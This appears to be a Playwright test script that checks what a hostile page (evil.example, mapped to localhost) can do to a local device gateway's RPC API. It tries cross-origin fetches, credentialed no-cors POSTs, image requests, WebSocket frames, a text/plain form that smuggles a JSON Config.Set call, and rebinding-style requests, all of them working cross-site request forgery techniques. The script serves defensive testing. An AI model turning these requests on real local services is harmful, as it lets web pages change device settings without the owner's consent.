// What web pages can do to a gateway on the same machine, in a real browser. Prints it as one JSON line.
// Usage: node pages.mjs GATEWAY-PORT PAGE-PORT
import { chromium } from 'playwright-core';

const [gateway, pages] = process.argv.slice(2);
const near = `http://127.0.0.1:${gateway}`;
const foreign = `http://evil.example:${pages}/`;
setTimeout(() => process.exit(3), 100_000).unref(); // a page that waits for ever
const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
  args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking',
    '--disable-component-update', '--disable-sync', '--disable-quic',
    '--host-resolver-rules=MAP evil.example 127.0.0.1'],
});

// Each of these runs inside a page and says what the page learned.
const read = async (url) => {
  try {
    const answer = await fetch(url, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{}' });
    return `${answer.status} ${(await answer.text()).trim()}`;
  } catch (e) {
    return e.name;
  }
};
const post = async ([url, body]) => {
  try {
    const answer = await fetch(url, { method: 'POST', mode: 'no-cors', body, credentials: 'include' });
    return answer.type;
  } catch (e) {
    return e.name;
  }
};
const image = (url) => new Promise((resolve) => {
  const element = new Image();
  element.onload = () => resolve('loaded');
  element.onerror = () => resolve('error');
  element.src = url;
});
const socket = ([url, frame]) => new Promise((resolve) => {
  const opened = new WebSocket(url);
  opened.onopen = () => opened.send(frame);
  opened.onmessage = (message) => resolve(message.data);
  opened.onerror = () => resolve('error');
  setTimeout(() => resolve('silence'), 5000);
});

const change = (value) => `{"config":{"device":{"sn":"${value}"}}}`;
const call = (value) => `{"id":1,"method":"Config.Set","params":${change(value)}}`;
try {
  const seen = {};
  const evil = await browser.newPage();
  await evil.goto(foreign);
  seen.read = await evil.evaluate(read, `${near}/rpc/RPC.Ping`);
  seen.post = await evil.evaluate(post, [`${near}/rpc/Config.Set`, change('post')]);
  seen.frame = await evil.evaluate(post, [`${near}/rpc`, call('frame')]);
  seen.image = await evil.evaluate(image,
    `${near}/rpc/Config.Set?config=${encodeURIComponent('{"device":{"sn":"image"}}')}`);
  seen.socket = await evil.evaluate(socket, [`ws://127.0.0.1:${gateway}/rpc`, call('socket')]);
  await Promise.all([
    evil.waitForNavigation(),
    evil.evaluate(([url, body]) => {
      const form = document.createElement('form');
      form.method = 'POST';
      form.enctype = 'text/plain';
      form.action = url;
      const field = document.createElement('input');
      field.name = body.slice(0, -1) + ',"x":"';
      field.value = '"}';
      form.append(field);
      document.body.append(form);
      form.submit();
    }, [`${near}/rpc`, call('form')]),
  ]);
  seen.form = (await evil.innerText('body')).trim();

  const rebound = await browser.newPage();
  seen.rebound = (await rebound.goto(`http://evil.example:${gateway}/`)).status(); // nothing is there
  seen.reboundPost = await rebound.evaluate(async (url) => { // a question for a password would wait
    const answer = await fetch(url, { method: 'POST', body: '{}', credentials: 'omit' });
    return `${answer.status} ${await answer.text()}`;
  }, '/rpc/RPC.Ping');

  const owner = await browser.newPage();
  seen.typed = (await owner.goto(`${near}/rpc/RPC.Ping`)).status();
  seen.own = await owner.evaluate(read, '/rpc/RPC.Ping');
  seen.ownSocket = await owner.evaluate(socket,
    [`ws://127.0.0.1:${gateway}/rpc`, '{"id":1,"method":"RPC.Ping"}']);
  console.log(JSON.stringify(seen));
} finally {
  await browser.close();
}
